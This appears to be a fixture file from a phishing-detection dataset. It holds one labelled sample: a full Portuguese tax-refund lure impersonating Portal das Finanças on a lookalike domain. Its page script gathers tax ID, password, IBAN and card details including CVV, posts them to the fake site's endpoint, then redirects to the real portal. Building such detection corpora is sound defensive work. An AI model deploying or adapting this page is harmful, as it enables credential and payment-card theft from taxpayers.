// Consumer-brand kits reported by staff to the abuse desk: streaming and government refund lures (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, codes, FONT } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-portal-financas-irs-refund-pt',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://portal-financas-reembolso.com/at/reembolso/irs-2025?ref=sms',
  body: doc({
    lang: 'pt-PT',
    title: 'Portal das Finanças - Reembolso IRS',
    head: `<style>body{margin:0;font-family:"Open Sans",${FONT};background:#f2f2f2;color:#333}.h{background:#fff;border-bottom:4px solid #2b6aa8;padding:14px 40px;display:flex;align-items:center;gap:14px}
.h b{color:#2b6aa8;font-size:20px}.c{max-width:560px;margin:30px auto;background:#fff;padding:28px 34px;border:1px solid #ddd}
.v{font-size:32px;color:#1b7c3c;font-weight:700}label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}input{width:100%;box-sizing:border-box;border:1px solid #bbb;padding:9px;font-size:14px}
.b{background:#2b6aa8;color:#fff;border:0;padding:11px 22px;font-size:15px;margin-top:18px;cursor:pointer}.r{display:flex;gap:10px}.r>div{flex:1}</style>`,
    body: `<div class="h"><span style="font-size:26px">🏛</span><b>Portal das Finanças</b><span style="color:#777;font-size:13px">Autoridade Tributária e Aduaneira</span></div>
<div class="c" id="s1"><h2 style="margin-top:0">Reembolso de IRS 2025</h2><p>Após o processamento da sua declaração de IRS, foi apurado um reembolso a seu favor:</p><div class="v">412,87 €</div>
<p style="font-size:14px">O IBAN associado encontra-se desatualizado. Para receber o reembolso nos próximos 3 dias úteis, autentique-se e confirme os dados de pagamento.</p>
<label>NIF</label><input id="nif" inputmode="numeric" maxlength="9"><label>Senha de acesso</label><input id="pw" type="password"><button class="b" id="b1">Autenticar</button></div>
<div class="c" id="s2" style="display:none"><h2 style="margin-top:0">Confirmação do reembolso</h2><p style="font-size:14px">Para validar a titularidade, indique o cartão associado à conta onde pretende receber 412,87 €.</p>
<label>Nome completo</label><input id="nm"><label>IBAN</label><input id="ib" placeholder="PT50 ..."><label>Número do cartão</label><input id="cc" inputmode="numeric"><div class="r"><div><label>Validade</label><input id="ex" placeholder="MM/AA"></div><div><label>CVV</label><input id="cv" maxlength="4"></div></div>
<button class="b" id="b2">Confirmar reembolso</button></div>
<script>
var d={};function snd(){return fetch('/at/api/reembolso.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d).toString()});}
document.getElementById('b1').onclick=function(){d.nif=document.getElementById('nif').value;d.pw=document.getElementById('pw').value;if(d.nif.length!==9)return;snd();document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('b2').onclick=function(){['nm','ib','cc','ex','cv'].forEach(function(k){d[k]=document.getElementById(k).value});snd().then(function(){alert('Pedido registado. O reembolso será processado em 72 horas.');location.href='https://www.portaldasfinancas.gov.pt/';});};
</script>`,
  }),
  routes: { 'portal-financas-reembolso.com/at/api/reembolso.php': jsonRoute({ r: 'ok' }) },
},
];
